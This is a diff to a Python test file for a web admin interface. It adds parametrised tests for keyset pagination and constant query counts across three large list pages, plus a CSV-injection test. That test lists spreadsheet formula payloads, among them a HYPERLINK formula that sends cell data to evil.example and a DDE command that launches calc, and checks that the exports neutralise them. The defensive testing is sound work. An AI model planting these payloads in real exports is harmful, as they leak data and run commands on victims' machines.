@@ -3,12 +3,19 @@ read-only where they don't, and list pages whose cost does not grow with the tab
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import re
+from collections.abc import Callable
 from contextlib import contextmanager
+from dataclasses import dataclass
+from typing import Any
 
 import pytest
 import sqlalchemy as sa
 
+from pixcrawler.admin.base import spreadsheet_safe
 from pixcrawler.extensions import db
 from pixcrawler.models import (
     ActivityLog,
@@ -237,49 +244,119 @@ def test_project_create_and_delete(admin_app, admin):
         assert db.session.get(Project, key) is None
 
 
-def test_images_list_costs_the_same_queries_for_any_size(admin_app, admin):
+def add_logs(user_id, count: int, start: int = 0) -> None:
+    rows = [
+        {"user_id": user_id, "action": f"action {i}", "resource_type": "project"}
+        for i in range(start, start + count)
+    ]
+    db.session.execute(sa.insert(ActivityLog), rows)
+
+
+def add_chunks(job_id: int, count: int, start: int = 0) -> None:
+    rows = [
+        {
+            "job_id": job_id,
+            "chunk_index": i,
+            "image_range": {"start": 500 * i, "end": 500 * i + 500},
+        }
+        for i in range(start, start + count)
+    ]
+    db.session.execute(sa.insert(JobChunk), rows)
+
+
+def new_job(ids: dict[str, int], n: int) -> int:
+    job = CrawlJob(project_id=ids["project"], name=f"job {n}", keywords=["x"])
+    db.session.add(job)
+    db.session.flush()
+    return job.id
+
+
+def new_user(ids: dict[str, int], n: int):
+    profile = Profile(email=f"user{n}@example.com")
+    db.session.add(profile)
+    db.session.flush()
+    return profile.id
+
+
+def first_user(ids: dict[str, int]):
+    return db.session.scalars(
+        sa.select(Profile.id).where(Profile.email == "owner@example.com")
+    ).one()
+
+
+@dataclass(frozen=True)
+class BigList:
+    """A list page over a table that grows without bound, and how to add rows to it."""
+
+    endpoint: str
+    table: str
+    add_rows: Callable[..., None]  # (parent, count, start)
+    new_parent: Callable[[dict[str, int], int], Any]  # a crawl job or a profile
+    first_parent: Callable[[dict[str, int]], Any]
+
+
+# README: these lists never run COUNT(*) and page by keyset (`?after=`) in the default order.
+BIG_LISTS = [
+    BigList("image", "images", add_images, new_job, lambda ids: ids["job"]),
+    BigList("activitylog", "activity_logs", add_logs, new_user, first_user),
+    BigList("jobchunk", "job_chunks", add_chunks, new_job, lambda ids: ids["job"]),
+]
+
+
+def table_ids(app, table: str) -> list[int]:
+    """Every id in a table, read directly, in ascending order."""
+    with app.app_context():
+        query = sa.select(sa.column("id")).select_from(sa.table(table)).order_by("id")
+        return list(db.session.scalars(query))
+
+
+@pytest.mark.parametrize("big", BIG_LISTS, ids=lambda big: big.endpoint)
+def test_big_lists_cost_the_same_queries_for_any_size(admin_app, admin, big):
     """No COUNT over the table, no query per row: the statements do not depend on the rows."""
-    ids = seed(admin_app, images=5)
-    admin.get("/admin/image/")  # warm up the session's own lookups
-    with statements(admin_app) as small:
-        assert admin.get("/admin/image/?page_size=100").status_code == 200
-    with admin_app.app_context():
-        # Images from 40 other jobs: a query per row would show as one per job.
-        for n in range(40):
-            job = CrawlJob(project_id=ids["project"], name=f"job {n}", keywords=["x"])
-            db.session.add(job)
-            db.session.flush()
-            add_images(job.id, 2, start=1000 + 2 * n)
-        db.session.commit()
-    with statements(admin_app) as big:
-        page = admin.get("/admin/image/?page_size=100").get_data(as_text=True)
-    assert len(listed_ids(page, "image")) == 85
-    assert len(big) == len(small)
-    images = [s for s in big if "images" in s.lower()]
-    assert not any("count(" in s.lower() for s in images)
-    assert "ORDER BY images.id DESC" in " ".join(images)
-
-
-def test_images_are_paged_by_keyset(admin_app, admin):
     ids = seed(admin_app, images=0)
     with admin_app.app_context():
-        add_images(ids["job"], 45)
+        big.add_rows(big.first_parent(ids), 5, 100)
         db.session.commit()
-        all_ids = sorted(db.session.scalars(sa.select(Image.id)), reverse=True)
+    url = f"/admin/{big.endpoint}/?page_size=100"
+    admin.get(url)  # warm up the session's own lookups
+    with statements(admin_app) as small:
+        assert admin.get(url).status_code == 200
+    with admin_app.app_context():
+        # Rows under 40 other parents: a query per row would show as one per parent.
+        for n in range(40):
+            big.add_rows(big.new_parent(ids, n), 2, 1000 + 2 * n)
+        db.session.commit()
+    with statements(admin_app) as large:
+        page = admin.get(url).get_data(as_text=True)
+    assert listed_ids(page, big.endpoint) == table_ids(admin_app, big.table)[::-1]
+    assert len(large) == len(small), large
+    assert not [s for s in small + large if "count(" in s.lower()]
+    assert f"ORDER BY {big.table}.id DESC" in " ".join(large)
+
+
+@pytest.mark.parametrize("big", BIG_LISTS, ids=lambda big: big.endpoint)
+def test_big_lists_are_paged_by_keyset(admin_app, admin, big):
+    ids = seed(admin_app, images=0)
+    with admin_app.app_context():
+        big.add_rows(big.first_parent(ids), 45, 100)
+        db.session.commit()
+    all_ids = table_ids(admin_app, big.table)
+    assert 40 < len(all_ids) <= 60  # three pages of 20
     seen: list[int] = []
-    url = "/admin/image/"
+    url = f"/admin/{big.endpoint}/"
     with statements(admin_app) as sql:
         while url:
             page = admin.get(url).get_data(as_text=True)
-            seen += listed_ids(page, "image")
+            seen += listed_ids(page, big.endpoint)
             older = re.search(r'<a class="page-link" href="([^"#]+)">Older', page)
             url = older.group(1).replace("&amp;", "&") if older else None
             assert url is None or "after=" in url
-    assert seen == all_ids  # every image once, newest first, in pages of 20
-    listed = [i for i, s in enumerate(sql) if "FROM images" in s and "LIMIT" in s]
+    assert seen == all_ids[::-1]  # every row once, newest first, in pages of 20
+    assert not [s for s in sql if "count(" in s.lower()]
+    listed = [i for i, s in enumerate(sql) if f"FROM {big.table}" in s and "LIMIT" in s]
     assert len(listed) == 3
     assert all(sql.offsets[i] in (None, 0) for i in listed)  # never skips rows by OFFSET
-    assert all("images.id <" in sql[i] for i in listed[1:])  # a range on the key instead
+    assert all(f"{big.table}.id <" in sql[i] for i in listed[1:])  # a range on the key instead
 
 
 def test_other_orders_use_numbered_pages(admin_app, admin):
@@ -288,3 +365,40 @@ def test_other_orders_use_numbered_pages(admin_app, admin):
     ids = listed_ids(page, "image")
     assert ids == sorted(ids) and len(ids) == 20
     assert 'id="keyset-pager"' not in page
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula(admin_app, admin):
+    """OWASP's CSV injection: such cells start with an apostrophe in the CSV and JSON exports;
+    other text and numbers are exported as they are."""
+    seed(admin_app)
+    with admin_app.app_context():
+        owner = db.session.scalars(sa.select(Profile).where(Profile.email.like("owner%"))).one()
+        db.session.add_all(Project(name=name, owner=owner) for name in FORMULAS)
+        db.session.commit()
+    expected = {*(f"'{name}" for name in FORMULAS), "Cats project"}
+    response = admin.get("/admin/project/export/csv/")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert {row["Name"] for row in rows} == expected
+    assert all(row["Id"].isdigit() for row in rows)
+    response = admin.get("/admin/project/export/json/")
+    assert response.status_code == 200
+    assert {row["Name"] for row in json.loads(response.get_data(as_text=True))} == expected
+
+
+def test_spreadsheet_safe_leaves_numbers_alone():
+    assert spreadsheet_safe(-5) == -5
+    assert spreadsheet_safe(2.5) == 2.5
+    assert spreadsheet_safe(None) is None
+    assert spreadsheet_safe("-5") == "'-5"
+    assert spreadsheet_safe("a=b") == "a=b"
